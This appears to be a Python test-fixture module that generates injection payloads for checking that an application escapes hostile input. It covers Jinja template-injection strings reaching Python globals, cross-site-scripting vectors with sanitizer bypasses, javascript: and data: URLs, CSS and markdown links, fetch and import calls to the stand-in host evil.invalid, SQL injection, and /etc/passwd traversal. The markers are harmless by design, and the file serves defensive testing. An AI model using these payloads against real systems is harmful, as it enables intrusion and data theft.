"""Hostile text: what would do harm, put into what it would have to break out of.

Whatever runs leaves a trace: arithmetic that Jinja does leaves ``PRODUCT`` in what is rendered, a
template that reaches Python writes ``TRACE`` into the environment, a script sets ``__pwned`` in the
topmost window, and all else asks ``evil.invalid`` for something.
"""

from html import escape
from itertools import product
from urllib.parse import quote

SUM, PRODUCT = "1337*7919", "10587703"
TRACE = "HOSTILE_TEXT_RAN"
RUN = "top.__pwned=1"
HOST = "evil.invalid"

_WRITE = f"os.environ.setdefault('{TRACE}','1')"
_JINJA = [
    f"{{{{ {SUM} }}}}",
    f"{{{{{SUM}}}}}",
    f"{{%- if 1 -%}}{{{{- {SUM} -}}}}{{%- endif -%}}",
    f"{{% set x = {SUM} %}}{{{{ x }}}}",
    f"{{% for x in [{SUM}] %}}{{{{ x }}}}{{% endfor %}}",
    f"{{{{ cycler.__init__.__globals__.{_WRITE} }}}}",
    f"{{{{ lipsum.__globals__.{_WRITE} }}}}",
    f"{{{{ (joiner|attr('__init__')).__globals__['os'].environ.setdefault('{TRACE}','1') }}}}",
    "{{ this._parent.get_name() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
]
_AROUND_JINJA = [
    "{}",
    "{{% endraw %}}{}{{% raw %}}",
    "{{% endmacro %}}{}",
    "}}}}{}{{{{",
    "#}}{}{{#",
    "'}}}}{}",
    '"){}',
    "</script>{}",
]

_MARKUP = [
    f"<script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script href='data:,{RUN}'></script></svg>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>link</a>",
    f"<form action=javascript:{RUN}><button autofocus onfocus={RUN}>",
    f"<img src=//{HOST}/x>",
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<style>@import url(https://{HOST}/x.css);</style>",
    f"<object data=https://{HOST}/x></object>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<base href=https://{HOST}/>",
]
_AROUND_MARKUP = [
    "{}",
    '">{}',
    "'>{}",
    "</script>{}",
    "</style>{}",
    "</title></textarea></noscript>{}",
    "-->{}<!--",
    "]]>{}<![CDATA[",
    '\\"}}]);{}',
]

_HANDLERS = [
    f"onmouseover={RUN}",
    f"onfocus={RUN} autofocus tabindex=0",
    f"style=background:url(https://{HOST}/x)",
    f"href=javascript:{RUN}",
    f"src=https://{HOST}/x onerror={RUN}",
    f"data-from=0 data-until=99999999 onclick={RUN}",
]
_AROUND_HANDLERS = ["x {} y=", 'x" {} y="', "x' {} y='", 'x"{}//', "x\t/{}/", "x\u00a0{}"]

_SCRIPT = [RUN, f"fetch('https://{HOST}/')", f"import('https://{HOST}/x.js')", "alert(1)"]
_AROUND_SCRIPT = [
    "${{{}}}",
    "`${{{}}}`",
    "`;{};`",
    "';{};//",
    '";{};//',
    "\\';{};//",
    "\\u0027;{};//",
    "\n{}\n",
    "\u2028{}\u2029",
    "*/{}/*",
    '"]+({})+["',
    "{{toString(){{{}}}}}",
    "datum.constructor.constructor('{}')()",
]

_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\nscript:{RUN}",
    f"java\x01script:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+#{RUN}",
    f"vbscript:{RUN}",
    f"//{HOST}/x",
    f"\\\\{HOST}\\x",
    f"https:\\\\{HOST}\\x",
    f"https://example.org\\@{HOST}/",
    "file:///etc/passwd",
    "../../../../etc/passwd",
]
_STYLES = [
    f"red;background:url(https://{HOST}/x)",
    f"url(https://{HOST}/x.svg#x)",
    f"#fff}}*{{background:url(https://{HOST}/x)}}",
    f"#123456;--light:url(https://{HOST}/x)",
    f"expression({RUN})",
    "#12345",
    "#AABBCC",
    "#aabbcc\n",
]
_MARKDOWN = [
    f"[link](javascript:{RUN})",
    f"![image](https://{HOST}/x.png)",
    f"[x]: https://{HOST}/",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\includegraphics{{https://{HOST}/x}}$",
    ":material/home: :red[colour] :rainbow[x]",
    "# heading **bold** `code` ~~gone~~",
]
_FORMATS = [
    "{}",
    "{0}",
    "{name}",
    "{controller}",
    "{0.__class__.__init__.__globals__}",
    "{name!r:>99999}",
    "{",
    "}",
    "%s %(name)s %n",
    "$name ${name}",
]
_OTHERS = [
    "'; DROP TABLE control; --",
    "__proto__",
    "constructor",
    "toString",
    "../x\\..\\x",
    "&lt;script&gt;",
    "&#123;&#123;7*7&#125;&#125;",
    "＜script＞",
    "\u00ad<\u00adscript>",
    "{\u200b{ 7*7 }\u200b}",
    "\ufeffx",
    "x\ufffe\uffff",
    "\U000e0041\U000e0042x",
    "Z" + "\u0301\u0489" * 40,
]
# What no reader may be shown: it deletes, rings or turns the order of what is read.
UNSEEN = (
    *map(chr, (*range(1, 32), 0x7F, 0x80, 0x85, 0x9B, 0x2028, 0x2029)),
    *map(chr, (0x200E, 0x200F, 0x061C, *range(0x202A, 0x202F), *range(0x2066, 0x206A))),
)
_UNSEEN = [f"a{sign}gnp.exe" for sign in UNSEEN]
_CODED = [
    form(vector)
    for form in (escape, quote, lambda text: escape(escape(text)))
    for vector in (*_MARKUP[:6], *_JINJA[:6])
]


def _all(vectors: list[str], contexts: list[str]) -> list[str]:
    return [context.format(vector) for context, vector in product(contexts, vectors)]


def _once(*lists: list[str]) -> tuple[str, ...]:
    return tuple(dict.fromkeys(text for texts in lists for text in texts))


PAYLOADS = _once(
    _all(_JINJA, _AROUND_JINJA),
    _all(_MARKUP, _AROUND_MARKUP),
    _all(_HANDLERS, _AROUND_HANDLERS),
    _all(_SCRIPT, _AROUND_SCRIPT),
    _ADDRESSES,
    _STYLES,
    _MARKDOWN,
    _FORMATS,
    _OTHERS,
    _CODED,
    _UNSEEN,
)
ADDRESSES = _once(_ADDRESSES, _STYLES, _all(_MARKUP[:3], _AROUND_MARKUP))
COLORS = _once(_STYLES, _ADDRESSES, _all(_SCRIPT, _AROUND_SCRIPT))
# Half a pair and NUL can be in a Python string, not in a file that is read.
UNREADABLE = ("a\x00b", "\ud800", "a\udfffb", "\ud800{{ 7*7 }}")
LONG = ("<b>{{ 7*7 }}" * 10_000)[:100_000]

# What is nobody's attack comes through as it is: the scripts of the record, and Persian.
NAMES = (
    "Ağdam",
    "Kəlbəcər",
    "Քարվաճառ",
    "Աղդամի շրջան",
    "Кельбаджар",
    "Физулинский район",
    "Agdam (Akna) – west & “north”",
    "قره‌باغ",
    "Füzuli",
)
